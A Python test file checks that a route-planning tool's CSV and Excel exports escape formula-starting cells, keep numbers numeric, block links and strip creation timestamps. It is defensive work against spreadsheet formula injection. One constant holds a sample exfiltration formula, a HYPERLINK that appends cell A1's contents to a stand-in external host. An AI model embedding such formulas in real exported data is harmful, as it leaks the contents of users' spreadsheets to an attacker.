"""Tables for spreadsheets: text stays text in them, numbers stay numbers, and no time is told."""

from __future__ import annotations

import csv
import io
import math
import zipfile
from typing import TYPE_CHECKING

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from routeplan.cli.analysis import csv_bytes
from routeplan.formats import new_workbook, table_to_csv

if TYPE_CHECKING:
    from collections.abc import Iterator

RUN = tuple("=+-@＝＋－＠")
SEPARATORS = (",", ";", "\t", "|")
# Letters that begin formulas, end cells, or are passed over.
TEXTS = st.text(st.sampled_from([*RUN, *SEPARATORS, *"\"' \r\n\ufeff\u200b\x0b1aЖ"]), max_size=8)
FORMULA = '=HYPERLINK("http://x.example/"&A1)'


def cells(data: bytes, delimiter: str) -> Iterator[str]:
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def is_run(cell: str) -> bool:
    return cell.strip(" \t\r\n\x0b\ufeff\u200b").startswith(RUN)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=3))
def test_no_cell_and_no_heading_is_run_with_whatever_separators_a_table_is_opened(
    rows: list[list[str]],
) -> None:
    for delimiter in (",", ";"):
        data = table_to_csv(rows[0], rows[1:], delimiter=delimiter)
        for other in SEPARATORS:
            assert not [cell for cell in cells(data, other) if is_run(cell)]


@given(st.lists(st.text("aЖ1 .\"'()", max_size=6), min_size=1, max_size=4))
def test_what_is_no_formula_reads_back_as_it_was(texts: list[str]) -> None:
    assert list(cells(table_to_csv(texts, []), ",")) == texts


def test_only_what_is_text_is_escaped() -> None:
    row = [-2.5, -3, np.float64(-0.25), np.int64(-7), "-2.5", "nan", math.nan, None, True]
    data = table_to_csv(["x"], [row], delimiter=";", decimal=",")
    read = list(cells(data, ";"))[1:]
    assert read == ["-2,5", "-3", "-0,25", "-7", "'-2.5", "nan", "", "", "True"]


def test_tables_of_analysts_are_written_so() -> None:
    table = pd.DataFrame(
        {"=name": ["@x", "y"], "share": [-0.5, math.nan], "n": [1, 2], "none": [None, "+"]}
    )
    assert csv_bytes(table).decode("utf-8-sig") == (
        "'=name,share,n,none\r\n'@x,-0.5,1,\r\ny,,2,'+\r\n"
    )


@pytest.mark.parametrize("text", [FORMULA, "{=1+1}", "+1", "http://x.example/", "mailto:a@b.kz"])
def test_text_in_a_workbook_is_neither_a_formula_nor_a_link(text: str) -> None:
    file = io.BytesIO()
    with new_workbook(file) as book:
        book.add_worksheet().write_row(0, 0, [text])
    cell = openpyxl.load_workbook(file).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_a_workbook_tells_no_time_of_its_making() -> None:
    file = io.BytesIO()
    with new_workbook(file, title="Week 1") as book:
        book.add_worksheet()
    with zipfile.ZipFile(file) as parts:
        times = {part.date_time for part in parts.infolist()}
        properties = parts.read("docProps/core.xml").decode()
    assert times == {(1980, 1, 1, 0, 0, 0)}
    assert properties.count("2000-01-01T00:00:00Z") == 2
